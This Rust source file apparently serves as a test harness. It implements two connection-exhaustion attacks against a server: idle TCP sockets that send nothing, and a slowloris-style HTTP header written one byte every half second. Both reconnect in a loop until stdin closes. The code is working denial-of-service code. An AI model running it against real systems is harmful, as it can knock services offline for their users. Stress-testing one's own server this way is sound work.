//! Two attacks that need no key: sockets that say nothing, and heads that come a byte at a time. What is closed is opened
//! again. Each says when it is under way and ends with its stdin.

use std::io::{Read as _, Write as _};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;

/// Between two bytes of a head.
const PAUSE: Duration = Duration::from_millis(500);
/// A socket that was closed is opened again after so long: an attacker's round trip.
const AGAIN: Duration = Duration::from_millis(100);

/// So many sockets that say nothing.
pub(crate) fn silent(address: SocketAddr, count: usize) -> Result<()> {
    attack(count, move || async move {
        let Ok(mut stream) = TcpStream::connect(address).await else { return };
        drop(stream.read(&mut [0]).await);
    })
}

/// So many heads that do not end.
pub(crate) fn slow(address: SocketAddr, count: usize) -> Result<()> {
    attack(count, move || async move {
        let Ok(mut stream) = TcpStream::connect(address).await else { return };
        let head =
            b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".iter().chain(std::iter::repeat(&b'a'));
        for byte in head {
            if stream.write_all(&[*byte]).await.is_err() {
                return;
            }
            tokio::time::sleep(PAUSE).await;
        }
    })
}

fn attack<F>(count: usize, once: impl Fn() -> F + Clone + Send + 'static) -> Result<()>
where
    F: Future<Output = ()> + Send,
{
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
    let begun = Arc::new(Semaphore::new(0));
    for _ in 0..count {
        let (once, begun) = (once.clone(), Arc::clone(&begun));
        runtime.spawn(async move {
            begun.add_permits(1);
            loop {
                once().await;
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
    let all = u32::try_from(count)?;
    drop(runtime.block_on(begun.acquire_many(all))?);
    println!("under way");
    std::io::stdout().flush()?;
    std::io::stdin().read_to_end(&mut Vec::new()).context("stdin")?;
    runtime.shutdown_background();
    Ok(())
}
